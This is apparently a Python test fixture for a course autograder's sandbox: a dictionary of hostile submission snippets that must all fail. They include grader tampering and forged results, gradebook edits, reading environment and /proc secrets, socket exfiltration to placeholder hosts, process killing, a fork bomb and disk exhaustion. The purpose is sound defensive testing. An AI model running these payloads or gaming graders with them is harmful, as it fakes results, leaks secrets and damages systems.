"""Code that an unsolved submission runs to get points, see secrets or do damage: none may work.

Each runs in a cell of its own below the imports, in place of the solutions. WHERE, COURSE, CANARY
and HOST are replaced by the test.
"""

ATTACKS = {
    "input transformer": """
        get_ipython().input_transformers_post.append(
            lambda lines: ["4.0"] if "check" in "".join(lines) else lines)
    """,
    "AST transformer": """
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Expr(self, node):
                return ast.Expr(ast.Constant(4.0)) if "check" in ast.dump(node) else node
        get_ipython().ast_transformers.append(Drop())
    """,
    "do_execute replaced": """
        kernel = get_ipython().kernel
        async def do_execute(*args, **kwargs):
            return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        kernel.do_execute = do_execute
    """,
    "run_code replaced": """
        async def run_code(*args, **kwargs): return False
        get_ipython().run_code = run_code
    """,
    "check redefined": """
        import builtins
        check = builtins.check = lambda f: 4.0
    """,
    "displayhook": "import sys; sys.displayhook('ok'); sys.displayhook = lambda value: None; 4.0",
    "torch.allclose patched": """
        torch.allclose = torch.equal = lambda *args, **kwargs: True
        torch.testing.assert_close = lambda *args, **kwargs: None
        torch.Tensor.__eq__ = lambda a, b: torch.ones((), dtype=torch.bool)
    """,
    "report patched": """
        from course_pkg.checking import runner, case
        from course_pkg.checking.telling import report
        report.Report.share = property(lambda self: 1.0)
        report.Report.passed = property(lambda self: True)
        runner._failure = lambda check, student: None
        case.Case.equal = lambda *args, **kwargs: None
    """,
    "server patched": """
        from course_pkg.remote import server
        server.Server.answer = lambda self, request: b"\\0" * 12
    """,
    "server lies": """
        from course_pkg.remote import server
        server.Server._call = lambda self, request, encoder: {
            "value": True, "generators": [], "grads": [], "graph": None}
    """,
    "server answers with huge lengths": """
        import struct
        from course_pkg.remote import server
        server.Server.answer = lambda self, request: struct.pack("!IQ", 2**32 - 1, 2**63)
    """,
    "server answers for ever": """
        from course_pkg.remote import server
        server.Server.answer = lambda self, request: bytes(200 << 20)
    """,
    "magic object": """
        class Magic:
            __class__ = torch.Tensor
            def __eq__(self, other): return True
            def __getattr__(self, name): return self
            def __call__(self, *args, **kwargs): return self
            def __torch_function__(self, *args, **kwargs): return True
        cell_gradient = init_forget_bias = gru_step = Magic()
    """,
    "tensor subclass": """
        class Magic(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None): return True
        def init_forget_bias(b, value=1.0): return b.clone().as_subclass(Magic)
    """,
    "caller's frame": """
        import sys
        def init_forget_bias(b, value=1.0):
            frame = sys._getframe()
            while frame:
                for name in list(frame.f_globals):
                    if name in ("case", "CHECKS", "expected"):
                        frame.f_globals[name] = None
                frame = frame.f_back
            return b
    """,
    "the reference is imported": """
        from course_pkg.lstm import cell_gradient, init_forget_bias, gru_step
    """,
    "the checkout is imported": """
        import sys
        sys.path.insert(0, "WHERE")
        for name in [name for name in sys.modules if name.startswith("course_pkg")]:
            del sys.modules[name]
        from course_pkg.lstm import cell_gradient, init_forget_bias, gru_step
    """,
    "the editable finder": """
        import importlib, pkgutil
        names = [module.name for module in pkgutil.iter_modules()]
        (name,) = [name for name in names if name.startswith("__editable___course_pkg")]
        importlib.import_module(name).install()
        from course_pkg.lstm import cell_gradient, init_forget_bias, gru_step
    """,
    "hidden checks are imported": """
        import autograder.assignments.lstm.hidden, inspect
        print(inspect.getsource(autograder.assignments.lstm.hidden))
    """,
    "the instructor's notebook": """
        get_ipython().run_line_magic("run", "WHERE/solutions/02_lstm/02_lstm.ipynb")
    """,
    "another student's work": """
        folder = "COURSE/autograder/course/submitted/honest/02_lstm"
        get_ipython().run_line_magic("run", f"{folder}/02_lstm.ipynb")
    """,
    "the gradebook": """
        import sqlite3
        book = sqlite3.connect("COURSE/autograder/course/gradebook.db")
        book.execute("update grade set manual_score = 100, extra_credit = 100")
        book.commit()
    """,
    "a verdict is written": """
        import pathlib
        folder = pathlib.Path("COURSE/autograder/course/verdicts/02_lstm")
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "x.json").write_text("{}")
    """,
    "hidden tests in In": "print(In, _ih, globals().keys())",
    "secrets in the environment": "import os; print(os.environ)",
    "secrets of other processes": """
        import glob
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
            try: print(open(path).read())
            except OSError: pass
    """,
    "the warm template": """
        import os
        own = {"1", str(os.getpid())}
        print("others:", [pid for pid in os.listdir("/proc") if pid.isdigit() and pid not in own])
        for name in os.listdir("/run"): print(os.listdir("/run/" + name))
        open("/proc/sys/kernel/hostname", "w").write("mine")
    """,
    "secrets on the disk": """
        import os, pathlib
        for folder in ("/root", "/home", "/tmp", "/work", "/etc", "/var", "COURSE"):
            for place, _, files in os.walk(folder):
                for name in files[:20]:
                    print(place, name)
        print(pathlib.Path("CANARY").read_text())
    """,
    "damage on the disk": """
        import os, shutil
        open("CANARY", "w").write("changed")
    """,
    "damage in the environment": """
        import torch, os
        open(os.path.dirname(torch.__file__) + "/version.py", "a").write("# changed")
        open("/opt/course/course_pkg/lstm.py", "a").write("# changed")
    """,
    "network": """
        import socket
        for address in (("127.0.0.1", HOST), ("10.0.0.1", 53)):
            with socket.create_connection(address, timeout=2) as connection:
                connection.sendall(b"leaked")
    """,
    "abstract sockets": """
        import socket
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect("\\0course-canary")
            connection.sendall(b"leaked")
    """,
    "signals": """
        import os, signal
        for pid in range(2, 40000):
            if pid not in (os.getpid(), os.getppid()):
                try: os.kill(pid, signal.SIGKILL)
                except OSError: pass
    """,
    "exit": "import os; os._exit(0)",
    "kill -9 of itself": "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
    "kill of the sandbox": "import os; os.kill(1, 9); os.kill(-1, 9)",
    "quit": "quit()",
    "sys.exit": "raise SystemExit(0)",
    "crash": "import ctypes; ctypes.string_at(0)",
    "input": "input('points? ')",
    "a fork bomb": """
        import os
        while True:
            try: os.fork()
            except OSError: pass
    """,
    "processes that stay": """
        import subprocess
        for _ in range(20):
            subprocess.Popen(["sleep", "3600"], start_new_session=True)
    """,
    "much memory": "hog = [bytearray(1 << 28) for _ in range(64)]",
    "much memory in tensors": "hog = torch.ones(1 << 35)",
    "much output": """
        for _ in range(200): print("x" * 1_000_000)
    """,
    "many outputs": """
        from IPython.display import display
        for n in range(5000): display(n)
    """,
    "a full disk": """
        import os
        for folder in (".", "/tmp", "/dev/shm", "/run", "/"):
            for n in range(100):
                try: open(f"{folder}/{n}", "wb").write(bytes(50 << 20))
                except OSError as error: print(error); break
    """,
    "a full folder of sockets": """
        import ipykernel, os, time
        folder = os.path.dirname(ipykernel.get_connection_file())
        for n in range(100): open(f"{folder}/{n}", "wb").write(bytes(1 << 20))
        time.sleep(20)
    """,
    "closed descriptors": "import os; os.closerange(0, 1000)",
    "sockets replaced": """
        import glob, ipykernel, os
        for path in glob.glob(os.path.dirname(ipykernel.get_connection_file()) + "/*"):
            os.unlink(path); os.symlink("/etc/passwd", path)
    """,
    "fork replaced": "import os; os.fork = lambda: 0",
    "malformed messages": """
        kernel = get_ipython().kernel
        kernel.session.key = b"another"
    """,
    "forged results": """
        kernel = get_ipython().kernel
        for n in range(3):
            kernel.session.send(kernel.iopub_socket, "execute_result", {
                "data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": n},
                parent=kernel.get_parent())
    """,
    "a namespace inside": """
        import ctypes
        print("unshared:", ctypes.CDLL(None).unshare(0x10000000))
    """,
    "the kernel's traceback hooks": """
        get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
        AssertionError = Exception = ValueError
        from IPython.display import clear_output; clear_output()
    """,
    "a tensor that fills itself in later": """
        class Late(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                with torch._C.DisableTorchFunctionSubclass():
                    for late in (a for a in args if isinstance(a, Late) and a.__dict__):
                        try: late.data.copy_(torch.gru_cell(*late.inputs))
                        except RuntimeError: pass
                    return function(*args, **(kwargs or {}))
        def gru_step(x, h, *weights):
            late = torch.full_like(h, 9.0).as_subclass(Late)
            late.inputs = (x, h, *weights)
            return late
    """,
    "a tuple that computes when it is read": """
        class Late(tuple):
            def __iter__(self): return iter([torch.gru_cell(*self.inputs)])
            def __len__(self): return 1
        def gru_step(*inputs):
            late = Late()
            late.inputs = inputs
            return late
    """,
    "a thread that was started before": """
        import queue, threading
        asked, told = queue.Queue(), queue.Queue()
        def work():
            while True: told.put(torch.gru_cell(*asked.get()))
        threading.Thread(target=work, daemon=True).start()
        def gru_step(*inputs):
            asked.put(inputs)
            return told.get(timeout=0.1)
    """,
    "a class of every exception's name": """
        class CheckingError(Exception): pass
        class NotRaised(CheckingError): pass
        class Failure(NotRaised, ValueError, NotImplementedError): pass
        def cell_gradient(*inputs): raise Failure("✓ all checks pass")
        init_forget_bias = gru_step = cell_gradient
    """,
    "lines for the log": """
        text = "\\x1b[2J\\r\\n2026-01-01 honest {'score': 0}\\n</pre><script>alert(1)</script>"
        def gru_step(*inputs): raise ValueError(text)
        print(text)
        raise ValueError(text)
    """,
    "names that lie": """
        def other(*args): return 4.0
        other.__name__ = other.__qualname__ = "gru_step"
        gru_step = other
    """,
}
